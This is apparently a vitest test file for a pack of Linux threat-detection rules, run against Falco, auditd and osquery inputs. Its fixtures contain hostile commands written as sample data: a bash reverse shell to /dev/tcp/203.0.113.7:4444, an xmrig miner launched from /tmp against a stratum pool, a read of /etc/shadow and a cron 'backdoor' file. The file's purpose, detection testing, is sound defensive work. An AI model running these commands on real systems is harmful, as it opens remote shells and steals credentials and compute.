import { readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import type { SigmaEvent } from "../detect-types";
import { createAuditdNormalizer } from "../normalize/auditd-normalizer";
import { normalizeFalcoAlert } from "../normalize/falco-normalizer";
import { normalizeOsqueryResult } from "../normalize/osquery-normalizer";
import { createDetector } from "../runtime/detector";
import { BUILTIN_CASES } from "./builtin-cases";
import { BUILTIN_RULE_FILES } from "./builtin-pack.generated";
import { BUILTIN_AUTHOR, loadBuiltinRules } from "./builtin-rules";
import { readBuiltinYaml, renderBuiltinDoc } from "./generate-builtin-pack";

const pack = loadBuiltinRules();
const idOf = new Map(pack.rules.map((r) => [r.rule.title, r.ruleId]));

function matchedIds(events: readonly SigmaEvent[], naive = false): string[] {
  const d = createDetector(pack, { naive });
  return [...events.flatMap((e) => d.process(e)), ...d.flush()].map((m) => m.ruleId);
}

describe("built-in rule pack", () => {
  it("is embedded from the YAML files of the folder (regenerate with generate-builtin-pack.ts)", () => {
    expect(BUILTIN_RULE_FILES).toEqual(readBuiltinYaml(import.meta.dirname));
  });

  it("is listed in docs/detect/builtin-rules.md (regenerate with generate-builtin-pack.ts)", () => {
    const doc = readFileSync(
      join(import.meta.dirname, "../../../../../docs/detect/builtin-rules.md"),
      "utf8",
    );
    expect(doc).toBe(renderBuiltinDoc(BUILTIN_RULE_FILES));
  });

  it("loads through the real loader without issues and has at least 40 rules", () => {
    expect(pack.issues).toEqual([]);
    expect(pack.rules.length).toBeGreaterThanOrEqual(40);
    expect(pack.correlations).toEqual([]);
  });

  it("has our own UUIDs, unique titles, author, levels, descriptions and ATT&CK tags", () => {
    const ids = pack.rules.map((r) => r.ruleId);
    expect(new Set(ids).size).toBe(ids.length);
    expect(idOf.size).toBe(ids.length);
    for (const r of pack.rules) {
      expect(r.ruleId, r.rule.title).toMatch(
        /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/,
      );
      expect(r.rule.author, r.rule.title).toBe(BUILTIN_AUTHOR);
      expect(r.rule.description, r.rule.title).toBeTruthy();
      expect(r.rule.falsepositives.length, r.rule.title).toBeGreaterThan(0);
      expect(
        r.rule.tags.some((t) => /^attack\.t\d{4}(\.\d{3})?$/.test(t)),
        r.rule.title,
      ).toBe(true);
      expect(r.rule.logsource.product, r.rule.title).toBe("linux");
      expect(r.rule.file).toMatch(/^builtin\/[a-z-]+\.yml$/);
    }
  });

  it("covers the themes of the issue", () => {
    const tags = new Set(pack.rules.flatMap((r) => r.rule.tags));
    for (const t of [
      "attack.t1059.004",
      "attack.t1611",
      "attack.t1496",
      "attack.t1003.008",
      "attack.t1053.003",
      "attack.t1543.002",
      "attack.t1546.004",
      "attack.t1547.006",
      "attack.t1070.002",
      "attack.t1610",
      "attack.t1105",
    ])
      expect(tags.has(t), t).toBe(true);
  });

  it("has a positive and a negative case for every rule, and no case without a rule", () => {
    expect(Object.keys(BUILTIN_CASES).sort()).toEqual([...idOf.keys()].sort());
    for (const [title, c] of Object.entries(BUILTIN_CASES)) {
      expect(c.positive.length, title).toBeGreaterThan(0);
      expect(c.negative.length, title).toBeGreaterThan(0);
    }
  });

  describe.each(Object.entries(BUILTIN_CASES))("%s", (title, c) => {
    it.each(c.positive.map((e, i) => [i, e] as const))("fires on positive event %i", (_i, e) => {
      const id = idOf.get(title)!;
      expect(matchedIds([e])).toContain(id);
      expect(matchedIds([e], true)).toContain(id);
    });
    it.each(c.negative.map((e, i) => [i, e] as const))(
      "stays quiet on negative event %i",
      (_i, e) => {
        const id = idOf.get(title)!;
        expect(matchedIds([e])).not.toContain(id);
        expect(matchedIds([e], true)).not.toContain(id);
      },
    );
  });

  it("gives identical matches in indexed and naive modes over all cases", () => {
    const all = Object.values(BUILTIN_CASES).flatMap((c) => [...c.positive, ...c.negative]);
    expect(matchedIds(all)).toEqual(matchedIds(all, true));
  });
});

describe("built-in pack on raw sensor input through the normalizers", () => {
  const titles = (events: readonly SigmaEvent[]): string[] => {
    const byId = new Map(pack.rules.map((r) => [r.ruleId, r.rule.title]));
    return matchedIds(events).map((id) => byId.get(id)!);
  };

  it("Falco alerts: reverse shell and package manager in a container", () => {
    const alerts = [
      {
        time: "2026-11-26T10:00:00.000000000Z",
        rule: "Spawned process",
        priority: "Notice",
        source: "syscall",
        hostname: "node-1",
        output: "spawned",
        output_fields: {
          "evt.type": "execve",
          "proc.exepath": "/usr/bin/bash",
          "proc.cmdline": "bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
          "user.name": "www-data",
          "container.id": "host",
        },
      },
      {
        time: "2026-11-26T10:00:01.000000000Z",
        rule: "Launch Package Management Process in Container",
        priority: "Error",
        source: "syscall",
        hostname: "node-1",
        output: "Package management process launched in container",
        output_fields: {
          "evt.type": "execve",
          "proc.exepath": "/usr/bin/apt-get",
          "proc.cmdline": "apt-get install -y nmap",
          "container.id": "3ad7b26ded6d",
          "container.privileged": true,
          "k8s.pod.name": "web-0",
        },
      },
    ];
    const events = alerts.flatMap((a) => {
      const r = normalizeFalcoAlert(JSON.stringify(a));
      return r.ok ? [...r.events] : [];
    });
    expect(titles(events).sort()).toEqual([
      "Bash reverse shell through /dev/tcp or /dev/udp",
      "Package manager run inside a container",
      "Process in a privileged container",
    ]);
  });

  it("auditd: module load syscall (record view) and a miner execve (coalesced view)", () => {
    const n = createAuditdNormalizer();
    const lines = [
      'type=SYSCALL msg=audit(1764151200.000:10): arch=c000003e syscall=313 success=yes exit=0 a0=3 ppid=1 pid=900 auid=0 uid=0 comm="insmod" exe="/usr/bin/kmod" key="modules"',
      "type=EOE msg=audit(1764151200.000:10): ",
      'type=SYSCALL msg=audit(1764151201.000:11): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=901 auid=0 uid=0 comm="xmrig" exe="/tmp/.x/xmrig" key="exec"',
      'type=EXECVE msg=audit(1764151201.000:11): argc=3 a0="xmrig" a1="-o" a2="stratum+tcp://pool.example.net:3333"',
      "type=EOE msg=audit(1764151201.000:11): ",
    ];
    const events = lines.flatMap((l) => {
      const r = n.push(l);
      return r.ok ? [...r.events] : [];
    });
    expect(titles([...events, ...n.flush()]).sort()).toEqual([
      "Known cryptocurrency miner executed",
      "Program executed from a temporary directory",
      "Stratum mining pool URL on a command line",
      "init_module or finit_module syscall",
    ]);
  });

  it("osquery: file_events on a cron directory and process_events of a shadow read", () => {
    const rows = [
      {
        name: "file_events",
        action: "added",
        counter: 3,
        hostIdentifier: "db-1",
        unixTime: 1764151200,
        columns: { target_path: "/etc/cron.d/backdoor", action: "CREATED", time: "1764151200" },
      },
      {
        name: "process_events",
        action: "added",
        counter: 3,
        hostIdentifier: "db-1",
        unixTime: 1764151200,
        columns: {
          path: "/usr/bin/cat",
          cmdline: "cat /etc/shadow",
          pid: "77",
          parent: "1",
          time: "1764151200",
        },
      },
    ];
    const events = rows.flatMap((row) => {
      const r = normalizeOsqueryResult(JSON.stringify(row));
      return r.ok ? [...r.events] : [];
    });
    expect(titles(events).sort()).toEqual([
      "Cron job file written",
      "Shadow password file read by a generic tool",
    ]);
  });
});
